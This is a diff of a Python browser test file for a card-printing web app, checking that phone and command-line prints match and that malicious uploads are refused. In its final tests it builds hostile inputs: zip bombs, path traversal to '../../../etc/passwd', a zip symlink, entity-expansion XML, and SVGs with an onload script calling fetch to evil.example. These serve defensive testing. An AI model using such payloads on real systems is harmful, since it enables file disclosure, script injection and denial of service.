@@ -2,47 +2,46 @@
 
 import io
 import re
-import struct
+import stat
 import zipfile
-import zlib
 from base64 import b64decode, b64encode
 from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 import openpyxl
 import pypdfium2
-import pytest
-from PIL import Image, ImageChops
+from PIL import Image, ImageFilter
 from playwright.sync_api import Page, expect
 
 from companion.paths import assets
-from companion.press.frame.fonts import get_metrics
+from companion.press.frame.fonts import get_font_file, get_metrics
 from tests.cli.test_main import companion
 from tests.web.browser.looking import find_page_faults
 from tests.web.pocket.inside import go, patch_kept
 from tests.web.pocket.served import Handset, Host, until_kept
-from tests.web.pocket.test_press import DOWNLOAD, compute_file_sum, print_order
+from tests.web.pocket.test_pictures import claims
+from tests.web.pocket.test_press import DOWNLOAD, compute_file_sum, print_order, save_file
 
 EXAMPLES = Path(__file__).parents[3] / "docs" / "examples"
 ROWS = '\ufeffname;cost;text\r\nApfel;2;"Süß; sehr"\r\n'
 
 
 def folder_of(files: Mapping[str, bytes], at: Path) -> Path:
-    """A folder with files in it."""
     for name, content in files.items():
         (at / name).parent.mkdir(parents=True, exist_ok=True)
         (at / name).write_bytes(content)
     return at
 
 
-def zip_of(folder: Path, file: Path, top: str = "", more: Mapping[str, bytes] = {}) -> Path:
+def zip_of(folder: Path, file: Path, more: Mapping[str, bytes] = {}) -> Path:
     """A folder as another tool packs it."""
     with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
         for name, content in more.items():
             packed.writestr(name, content)
         for each in sorted(folder.rglob("*")):
-            packed.write(each, f"{top}{each.relative_to(folder)}")
+            packed.write(each, each.relative_to(folder))
     return file
 
 
@@ -55,7 +54,6 @@ def photo(size: tuple[int, int], colour: str, kind: str, **how: Any) -> bytes:
 
 
 def take_in(page: Page, given: Path | list[Path], field: str = "files") -> None:
-    """Choose files, or a folder, and have them taken in."""
     go(page, "/print/own")
     page.set_input_files(f"#{field}", given)
     page.locator("#own > button").click()
@@ -68,7 +66,6 @@ def wait_for_deck(page: Page) -> str:
 
 
 def print_by_command(given: Path, goal: Path, *more: str) -> dict[str, tuple[int, str]]:
-    """What the command prints, by its files' names."""
     done = companion("print", str(given), "--lang", "en", "-o", str(goal), *more)
     assert done.returncode == 0, done.stderr
     return {file.name: compute_file_sum(file.read_bytes()) for file in goal.glob("*.pdf")}
@@ -85,12 +82,10 @@ def read_refusal(page: Page) -> str:
 
 
 def list_deck_names(page: Page) -> list[str]:
-    """The names of the decks that the phone keeps."""
     go(page, "/print/own")
     return page.locator("section[aria-labelledby=h-kept] .rows b").all_inner_texts()
 
 
-@pytest.mark.deep
 def test_a_folder_with_kanji_and_a_font_of_its_own_prints_the_bytes_of_the_command(own: Page, tmp_path: Path) -> None:
     take_in(own, EXAMPLES / "sky", "folder")
     assert print_by_phone(own, wait_for_deck(own)) == print_by_command(EXAMPLES / "sky", tmp_path / "out")
@@ -122,35 +117,56 @@ def test_photos_print_the_bytes_of_the_command(own: Page, tmp_path: Path) -> Non
     assert print_by_phone(own, deck) == print_by_command(folder, tmp_path / "out")
 
 
-def render_card_sheet(file: bytes) -> Image.Image:
-    """The sheet with cards on it, as a PDF draws it."""
-    document = pypdfium2.PdfDocument(file)
-    pages = [page.render(scale=1.5).to_pil().convert("RGB") for page in document]
-    document.close()
-    return max(pages, key=lambda page: len(page.getcolors(1 << 24) or ()))
+BEYOND_OUTLINES = """<svg xmlns="http://www.w3.org/2000/svg" width="57mm" height="82mm" viewBox="0 0 57 82">
+<linearGradient id="g"><stop stop-color="#fff"/><stop offset="1"/></linearGradient>
+<mask id="m"><rect width="57" height="82" fill="url(#g)"/></mask><rect width="57" height="60" fill="#fc8"/>
+<circle cx="28" cy="30" r="25" fill="maroon" mask="url(#m)"/><image href="tile.png" width="9" height="9"/>
+<text x="3" y="70" font-size="7" font-family="wild">Wild words</text>
+<text x="3" y="80" style="font:italic 7px sans-serif;fill:var(--c,#a00);text-transform:uppercase">caps</text>
+</svg>"""
 
 
-def test_pictures_that_a_browser_decodes_look_as_those_of_the_command(own: Page, tmp_path: Path) -> None:
-    clear = Image.new("RGBA", (744, 1039), (200, 30, 30, 255))
-    clear.paste((0, 90, 0, 128), (100, 100, 400, 500))
-    clear.paste((0, 0, 0, 0), (400, 500, 700, 900))
-    grey, inks = Image.linear_gradient("L").resize((744, 1039)), io.BytesIO()
-    Image.new("CMYK", (744, 1039), (0, 200, 200, 0)).save(inks, "JPEG", quality=95)
-    pictures = {"inks.jpg": inks.getvalue()}
-    for name, image in {"clear": clear, "grey": grey, "few": clear.convert("RGB").quantize(16)}.items():
-        goal = io.BytesIO()
-        image.save(goal, "PNG")
-        pictures[f"{name}.png"] = goal.getvalue()
-    folder = folder_of(pictures, tmp_path / "pictures")
-    take_in(own, sorted(folder.iterdir()))
-    form = {"language": "en", "game": wait_for_deck(own), "sides": "fronts"}
-    (got,) = print_order(own, form).values()
+DECK = """name = "own"
+[font]
+wild = "w.ttf"
+[[component]]
+name = "cards"
+face = "card"
+table = "{table}"
+"""
+FACE = """size = [63, 88]
+[[element]]
+kind = "picture"
+file = "{file}"
+x = 3
+y = 3
+width = 57
+height = 82
+"""
+
+
+def one_card(svg: str, file: str = "art/a.svg", table: str = "cards.csv") -> Mapping[str, bytes]:
+    texts = {
+        "deck.toml": DECK.format(table=table),
+        "cards.csv": "name\nOne\n",
+        "faces/card.toml": FACE.format(file=file),
+        "art/a.svg": svg,
+    }
+    more = {"w.ttf": get_font_file("bold").read_bytes(), "art/tile.png": photo((90, 90), "#3399cc", "PNG")}
+    return {**{name: text.encode() for name, text in texts.items()}, **more}
+
+
+def test_a_drawing_beyond_outlines_is_drawn_by_the_browser_as_by_the_command(own: Page, tmp_path: Path) -> None:
+    folder = folder_of(one_card(BEYOND_OUTLINES), tmp_path / "own")
+    take_in(own, folder, "folder")
+    (got,) = print_order(own, {"language": "en", "game": wait_for_deck(own), "sides": "fronts"}).values()
     print_by_command(folder, tmp_path / "out", "--sides", "fronts")
     (file,) = (tmp_path / "out").glob("*.pdf")
-    found, expected = render_card_sheet(got), render_card_sheet(file.read_bytes())
-    assert found.size == expected.size
-    off = ImageChops.difference(found, expected).getextrema()
-    assert max(high for _, high in off) <= 6, off  # a browser rounds where something shows through
+    sheets = [pypdfium2.PdfDocument(each)[1].render(scale=1.5).to_pil() for each in (got, file.read_bytes())]
+    found, expected = (each.convert("RGB").filter(ImageFilter.BoxBlur(1)) for each in sheets)
+    differing = np.abs(np.asarray(found, int) - np.asarray(expected, int)).max(axis=2)
+    assert (differing > 60).mean() < 0.0005
+    assert (np.asarray(expected).min(axis=2) < 240).mean() > 0.03  # something is there
 
 
 def test_a_deck_is_kept_until_it_is_deleted(host: Host, ready: Handset, tmp_path: Path) -> None:
@@ -180,86 +196,38 @@ def bomb(file: Path, *sizes: int) -> Path:
     return file
 
 
-def gigapixel() -> bytes:
-    """A PNG of a few bytes that says it is as large as that."""
-
-    def chunk(name: bytes, content: bytes) -> bytes:
-        body = name + content
-        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))
-
-    head = struct.pack(">IIBBBBB", 40_000, 25_000, 8, 2, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")
-
-
 def test_files_that_are_no_deck_are_refused_and_kept_decks_stay(own: Page, tmp_path: Path) -> None:
     kept = tmp_path / "kept.csv"
     kept.write_text(ROWS, "utf-8")
     take_in(own, kept)
     wait_for_deck(own)
     cut = photo((744, 1039), "red", "PNG")[:-300]
-    stranger = {"../../lib/deck.toml": b'name = "x"'}
     (tmp_path / "text.zip").write_text("no zip")
     (tmp_path / "cards.xlsx").write_bytes(b"PK")
-    (tmp_path / "empty.csv").write_bytes(b"")
     cases: dict[str, Path | list[Path]] = {
         "bomb.zip: a deck has 100 MB at most.": bomb(tmp_path / "bomb.zip", 60_000_000, 60_000_000),
         "many.zip: these are more than 2000 files.": bomb(tmp_path / "many.zip", *[1] * 2001),
         "out.zip: '../../lib/deck.toml' lies outside the folder of the deck.": zip_of(
-            tmp_path / "none", tmp_path / "out.zip", more=stranger
+            tmp_path / "none", tmp_path / "out.zip", more={"../../lib/deck.toml": b"name = 'x'"}
         ),
         "text.zip: this zip file cannot be read; it may be damaged or have a password.": tmp_path / "text.zip",
         "cards.xlsx: this is not a workbook.": tmp_path / "cards.xlsx",
-        "empty.csv: this table has no cards.": tmp_path / "empty.csv",
         "a: the picture 'a.png' has more than 50 million dots.": [
-            folder_of({"a.png": gigapixel()}, tmp_path / "giga") / "a.png"
+            folder_of({"a.png": claims(40_000, 25_000)}, tmp_path / "giga") / "a.png"
         ],
         "a: the picture 'a.png' is damaged or cut short.": [folder_of({"a.png": cut}, tmp_path / "cut") / "a.png"],
         "Choose a file first.": [],
     }
     for sentence, given in cases.items():
         take_in(own, given)
-        found = read_refusal(own)
-        assert found == sentence, found
+        assert read_refusal(own) == sentence
         assert list_deck_names(own) == ["kept.csv"], sentence
-
-
-def test_a_deck_with_faults_is_kept_and_reported_as_by_check(own: Page, tmp_path: Path) -> None:
-    folder = tmp_path / "market"
-    assert companion("deck", "new", str(folder)).returncode == 0
-    cards = (folder / "cards.csv").read_text("utf-8").splitlines()
-    cards[1] = cards[1].replace(",", f"{' endless' * 40},", 2)
-    (folder / "cards.csv").write_text("\n".join(cards), "utf-8")
-    check = companion("check", str(folder))
-    assert check.returncode == 1
-    take_in(own, folder, "folder")
-    wait_for_deck(own)
-    told = own.locator("main .note[role=status] p").all_inner_texts()
-    assert " ".join(told).split() == check.stdout.split()
-    print_despite_faults(own, folder, tmp_path / "out")
-
-
-def print_despite_faults(page: Page, given: Path, goal: Path) -> None:
-    """Check that a faulty deck can be printed anyway, with the bytes of the command."""
-    page.get_by_role("link", name="Print", exact=True).last.click()
-    page.get_by_role("radio", name="fronts only").check()
-    page.get_by_role("button", name="Make the file").click()
-    expect(page.get_by_role("heading", name="Nothing was made")).to_be_visible()
-    assert find_page_faults(page) == {}
-    page.get_by_role("button", name="Print anyway").click()
-    expect(page.get_by_role("heading", name="Ready to print")).to_be_visible()
-    (expected,) = print_by_command(given, goal, "--sides", "fronts", "--force").items()
-    file = page.locator("a.act[href^='blob:']")
-    assert file.get_attribute("download") == expected[0]
-    with page.expect_download() as saved:
-        file.click()
-    assert compute_file_sum(Path(saved.value.path()).read_bytes()) == expected[1]
-    page.get_by_role("link", name="Something else").click()
 
 
 LACKED = "No \U0001f600 no \u0e01 no \U00020000"
 
 
-def test_letters_missing_from_all_fonts_are_reported_as_by_check(ready: Handset, tmp_path: Path) -> None:
+def test_a_deck_with_faults_is_reported_as_by_check_and_printed_all_the_same(ready: Handset, tmp_path: Path) -> None:
     """On a phone that has fetched no letters for decks; what is not theirs is no reason to."""
     file = tmp_path / "far.csv"
     file.write_text(f"name,text\nApple,{LACKED}\n", "utf-8")
@@ -270,8 +238,17 @@ def test_letters_missing_from_all_fonts_are_reported_as_by_check(ready: Handset,
     wait_for_deck(page)
     told = page.locator("main .note[role=status] p").all_inner_texts()
     assert " ".join(told).split() == check.stdout.split()
-    print_despite_faults(page, file, tmp_path / "out")
     assert not any(url.endswith(("/letters.bin", "/workbook.bin")) for url in ready.asked)
+    page.get_by_role("link", name="Print", exact=True).last.click()
+    page.get_by_role("radio", name="fronts only").check()
+    page.get_by_role("button", name="Make the file").click()
+    expect(page.get_by_role("heading", name="Nothing was made")).to_be_visible()
+    assert find_page_faults(page) == {}
+    page.get_by_role("button", name="Print anyway").click()
+    expect(page.get_by_role("heading", name="Ready to print")).to_be_visible()
+    (expected,) = print_by_command(file, tmp_path / "out", "--sides", "fronts", "--force").items()
+    saved = save_file(page)
+    assert (saved.suggested_filename, compute_file_sum(Path(saved.path()).read_bytes())) == expected
 
 
 def test_decks_js_knows_every_letter_that_only_the_font_parcel_has() -> None:
@@ -305,28 +282,23 @@ IDBObjectStore.prototype.put = function (...what) {
 
 def test_storage_that_fills_up_while_a_deck_is_kept_loses_nothing(ready: Handset, tmp_path: Path) -> None:
     patch_kept(ready.open_plain_tab(), "decks.js", ROOM)
-    small, large = tmp_path / "small.csv", tmp_path / "large.csv"
-    small.write_text(ROWS, "utf-8")
-    large.write_text(f"{ROWS}Birne;1;{'sehr ' * 20}\r\n", "utf-8")
+    for name in ("small", "large"):
+        (tmp_path / f"{name}.csv").write_text(f"{ROWS}{name};1;\r\n", "utf-8")
     page = ready.open()
-    take_in(page, small)
+    take_in(page, tmp_path / "small.csv")
     wait_for_deck(page)
     page.evaluate("() => { new BroadcastChannel('room').postMessage(false); }")
-    take_in(page, large)
+    take_in(page, tmp_path / "large.csv")
     assert read_refusal(page) == "This phone has no room left for it; delete another deck first."
-    assert list_deck_names(page) == ["small.csv"]
-    page.evaluate("() => { new BroadcastChannel('room').postMessage(true); }")
-    take_in(page, large)
-    wait_for_deck(page)
     page.close()
-    assert list_deck_names(ready.open("/print/own")) == ["large.csv", "small.csv"]
+    assert list_deck_names(ready.open("/print/own")) == ["small.csv"]
 
 
-@pytest.mark.parametrize("like", ["plain", "tiles"])
-def test_a_new_deck_can_be_begun_downloaded_and_printed_on_a_phone(own: Page, tmp_path: Path, like: str) -> None:
+def test_a_new_deck_can_be_begun_downloaded_and_printed_on_a_phone(own: Page, tmp_path: Path) -> None:
+    like = "tiles"
     assert companion("deck", "new", f"my-{like}", "--like", like, folder=tmp_path).returncode == 0
-    expected = {file.relative_to(tmp_path).as_posix(): file.read_bytes() for file in tmp_path.rglob("*.*")}
-    expected = {name: content for name, content in expected.items() if (tmp_path / name).is_file()}
+    files = [file for file in tmp_path.rglob("*.*") if file.is_file()]
+    expected = {file.relative_to(tmp_path).as_posix(): file.read_bytes() for file in files}
     go(own, "/print/own")
     own.locator(f"button[name=begin][value={like}]").click()
     deck = wait_for_deck(own)
@@ -357,3 +329,46 @@ def test_a_folder_is_dropped_on_the_page(own: Page) -> None:
     )
     wait_for_deck(own)
     assert list_deck_names(own) == ["shells"]
+
+
+def test_a_symbolic_link_in_a_zip_file_is_not_followed(own: Page, tmp_path: Path) -> None:
+    """It is a file with a path in it, as a table of which it has no card."""
+    link = zipfile.ZipInfo("cards.csv")
+    link.external_attr = (stat.S_IFLNK | 0o777) << 16
+    with zipfile.ZipFile(tmp_path / "a.zip", "w") as packed:
+        packed.writestr(link, "/companion/assets/games/honshu/map_cards.csv")
+    take_in(own, tmp_path / "a.zip")
+    assert read_refusal(own) == "cards.csv: this table has no cards."
+    assert list_deck_names(own) == []
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{inner}</svg>'
+EVIL = """fetch("https://evil.example/"); document.title = "evil";"""
+STRANGE = {
+    "a table outside": one_card(SVG, table="../../../etc/passwd"),
+    "a drawing anywhere": one_card(SVG, file="/companion/assets/web/img/mark.svg"),
+    "a picture from elsewhere": one_card(SVG.format(inner="<image href='https://evil.example/a.png' width='9'/>")),
+    "a page inside": one_card(SVG.format(inner=f"<foreignObject><body onload='{EVIL}'/></foreignObject>")),
+    "what doubles": one_card(
+        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+        + SVG.format(inner="<text>&b;</text>")
+    ),
+}
+
+
+def test_a_malicious_deck_is_reported_as_by_check_and_does_no_harm(ready: Handset, tmp_path: Path) -> None:
+    page = ready.open("/print/own")
+    for what, files in STRANGE.items():
+        folder = folder_of(files, tmp_path / what / "strange")
+        check = companion("check", str(folder), folder=tmp_path / what)
+        assert check.returncode == 1, (what, check.stdout)
+        take_in(page, folder, "folder")
+        wait_for_deck(page)
+        told = page.locator("main .note.bad[role=status] p").all_inner_texts()
+        here = check.stdout.replace(f"{folder}/", "strange/").replace(f"{folder.parent}/", "")
+        assert " ".join(told).split() == here.split(), what
+        page.locator("a.act").click()
+        expect(page.get_by_role("heading", name="Print", exact=True)).to_be_visible()
+        expect(page.locator("[data-wait]")).to_have_count(0)
+        assert page.title() == "Print · Companion", what
+    assert [url for url in ready.asked if "evil" in url] == []
